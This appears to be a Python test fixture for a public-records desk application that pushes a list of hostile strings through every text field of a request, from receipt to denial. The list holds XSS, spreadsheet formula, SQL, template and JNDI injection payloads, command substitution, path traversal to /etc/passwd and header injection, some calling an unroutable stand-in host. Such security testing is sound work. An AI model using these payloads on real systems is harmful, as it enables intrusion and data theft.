"""Texts made to do harm or to come out wrong, and a desk whose every field of words holds them.

MARK stands in each: what finds it where it should not be, such as a log, found what somebody typed. Whoever looks at a page
asks for `window.hostile`, which every script among them would set.
"""

from datetime import date, timedelta
from typing import Any

from records_desk.db import city, closing, exemptions, ledger, letterhead
from records_desk.db._plain_text import one_line, says
from records_desk.db._refused import Refused
from records_desk.db.closing import Closure
from records_desk.db.files import File
from records_desk.db.store import Store

MARK = "Zqx7"
ELSEWHERE = "192.0.2.1"  # an address that nobody has (RFC 5737)
ADMINISTRATOR = ledger.Staff("administrator", "Desk administrator", "administrator", 1, 1, "Administrator")
STARTS = ("=", "+", "-", "@", "\t", "\r")

TEXTS = {
    "script": f"<script>window.hostile='{MARK}'</script>",
    "broken script": f"</textarea></title></style><ScRiPt/x>window.hostile='{MARK}'//<",
    "handler": f"<img src=x onerror=\"window.hostile='{MARK}'\"><svg/onload=window.hostile='{MARK}'>",
    "attribute": f"\" onmouseover=\"window.hostile='{MARK}'\" autofocus onfocus='window.hostile=1' x='",
    "frame": f"<iframe srcdoc=\"<script>parent.hostile='{MARK}'</script>\"></iframe><object data=//{ELSEWHERE}/{MARK}>",
    "style": f"<style>*{{background:url(http://{ELSEWHERE}/{MARK})}}</style><link rel=stylesheet href=//{ELSEWHERE}/a.css>",
    "address": f"javascript:window.hostile='{MARK}' [click](javascript:window.hostile='{MARK}') <javascript:window.hostile=1>",
    "data address": f"data:text/html,<script>window.hostile='{MARK}'</script>",
    "image": f"![{MARK}](http://{ELSEWHERE}/p.png) [![x](//{ELSEWHERE}/q.png)](http://{ELSEWHERE})",
    "reference": f"![{MARK}][r]\n\n[r]: http://{ELSEWHERE}/r.png \"t\"\n<http://{ELSEWHERE}/auto>",
    "markdown": f"# {MARK}\n\n- [ ] **b** _i_ ~~s~~ `c`\n\n| a | b |\n|---|---|\n| 1 | 2 |\n\n> q\n***\n1. one",
    "entities": f"&lt;script&gt;{MARK}&lt;/script&gt; &#60;img src=x&#62; &amp;amp; &nbsp;&copy &#x1F600;",
    "latex": f"$\\href{{javascript:window.hostile=1}}{{{MARK}}}$ $$\\includegraphics{{x}}\\frac{{1}}{{0}}$$ \\input{{/etc/passwd}}",
    "directives": f":material/home: :red[{MARK}] :blue-background[x] :violet-badge[y] :small[z] :streamlit: -> <- -- :smile: :shortcode_{MARK}:",
    "formula": f'=HYPERLINK("http://{ELSEWHERE}/?"&A1,"{MARK}")',
    "plus": f"+cmd|' /C calc'!{MARK}",
    "minus": f"-2+3+cmd|' /C calc'!{MARK}",
    "at": f"@SUM(1+1)*{MARK}",
    "tab": f"\t=1+1 {MARK}",
    "return": f"\r=1+1 {MARK}",
    "wide equals": f"＝1+1 {MARK}",
    "quoted": f'"{MARK}","=1+1"\n=2+2;"x',
    "sql": f"'; drop table store.request; -- {MARK}",
    "sql two": f"\" or 1=1); attach '/etc/passwd' as x; select $$ {MARK} $$ $1 ? %s",
    "jinja": f"{{{{ 7*7 }}}}{{% for x in ().__class__.__base__.__subclasses__() %}}{MARK}{{% endfor %}}{{# no #}}",
    "format": f"{{0.__class__}} {{verbatim!r:>99999}} %(name)s %n ${{jndi:ldap://{ELSEWHERE}/{MARK}}} `id` $(id)",
    "typst": f"#eval(\"1\") #read(\"/etc/passwd\") #import \"x\": * @ref <label> $ x $ {MARK} \\u{{0}}",
    "path": f"../../../../etc/passwd {MARK}",
    "windows path": f"..\\..\\C:\\CON {MARK}.lnk:$DATA",
    "header": f"{MARK}\r\nBcc: victim@example.org\r\nContent-Type: text/html\r\n\r\n<script>window.hostile=1</script>",
    "calendar": f"{MARK}\r\nEND:VEVENT\r\nBEGIN:VEVENT\r\nATTACH:http://{ELSEWHERE}/x\r\nEND:VCARD;,\\n",
    "line ends": f"{MARK}\x0b\x0c\x1c\x1d\x1e\x85\u2028\u2029Bcc: victim@example.org",
    "bidi": f"\u202e{MARK}\u202c \u2066x\u2069 \u200f\u200e\u061c invoice\u202efdp.exe",
    "nul": f"{MARK}\x00\x01\x07\x08\x1b[31mred\x7f\x9b",
    "surrogate": f"{MARK}\ud800\udfff\udc80",
    "no character": f"{MARK}\ufffe\uffff\ufdd0\U0010ffff\ue000\ufeff",
    "emoji": f"{MARK} 👩‍👩‍👧‍👦 🏳️‍🌈 👍🏽 🇺🇸 1️⃣",
    "right to left": f"طلب سجلات {MARK} בקשה לרשומות",
    "combining": f"{MARK} Z{'̴̵̶̷̸' * 60}algo é ñ",
    "scripts": f"{MARK} 公共記錄請求 공공기록 अनुरोध คำขอ Ελληνικά Zażółć",
    "long word": MARK + "W" * 296,
    "long wide word": MARK + "漢" * 296,
    "many lines": f"{MARK}\n" * 400,
}  # fmt: skip


def as_kept(text: str, is_line: bool) -> str | None:
    """How a text is to be read back: what docs/security.md names as cleaning, and nothing else."""
    clean = text.replace("\x00", "").encode("utf-8", "replace").decode().strip()
    clean = one_line(clean) if is_line else clean
    return clean if says(clean) else None


def fill(store: Store, day: date, texts: dict[str, str] = TEXTS) -> list[int]:
    """A request for each text, which stands in every field of words on its way to a denial; and the city's own names. The request's ids."""
    for text in texts.values():
        _or_refused(city.save_desk, store, ADMINISTRATOR, None, f"{text[:100]}{len(text)}")
        person = {"sign_in": f"{text[:80]}{len(text)}", "name": f"{text[:100]}{len(text)}", "title": text[:100], "role": "official", "desk_id": 1}
        _or_refused(city.save_person, store, ADMINISTRATOR, None, **person)
    days = {name: day - timedelta(20 + place) for place, name in enumerate(("script", "image", "formula", "long word"))}
    _or_refused(closing.apply, store, ADMINISTRATOR, closing.add([Closure(texts[name][:100], on, on) for name, on in days.items() if name in texts]))
    _or_refused(letterhead.save, store, ADMINISTRATOR, TEXTS["handler"][:100], f"{TEXTS['image'][:100]}\n{TEXTS['typst'][:100]}")
    _or_refused(exemptions.decide, store, ADMINISTRATOR, exemptions.Decision("7922.000", day - timedelta(30), TEXTS["script"][:100], TEXTS["image"][:100], TEXTS["formula"][:100]))
    return [_told(store, text, place, day) for place, text in enumerate(texts.values())]


def _told(store: Store, text: str, place: int, day: date) -> int:
    """One request and what is written on it, from its receipt to its denial."""
    desks = [desk["desk_id"] for desk in store.read("desks") if desk["is_active"]]
    words = ("summary", "name", "organization", "phone", "intended_use", "record_series", "data_fields", "format")
    made = ledger.receive(
        store, ADMINISTRATOR, track="records", on_date=day - timedelta(2), verbatim=text, desk_id=desks[place % len(desks)],
        files=(File(text, "text/plain", text.encode("utf-8", "replace")),), email="zqx7@example.org", **dict.fromkeys(words, text),
    )  # fmt: skip

    def record(kind: str, **values: Any) -> None:
        _or_refused(ledger.record, store, made.request_id, kind, ADMINISTRATOR, on_date=day - timedelta(1), **values)

    record("note", note=text)
    record("clarification_asked", question=text)
    if place % 6 == 0:
        record("fee_charged", fee_kind="duplication", amount="12.50")
        record("fee_paid", amount="2.50", reference=text)
    denial = {"reason": text, "balancing": f"{text} outweighs", "official_name": text, "official_title": text, "further_officials": f"{text[:200]} too; {text[:200]}"}
    record("determined", outcome="denied", sections=("7927.700", "7922.000"), **denial)
    return made.request_id


def _or_refused(act: Any, *given: Any, **values: Any) -> None:
    """Do it, or be told in a sentence why not; anything else is a failure."""
    try:
        act(*given, **values)
    except Refused as refused:
        assert str(refused).strip()
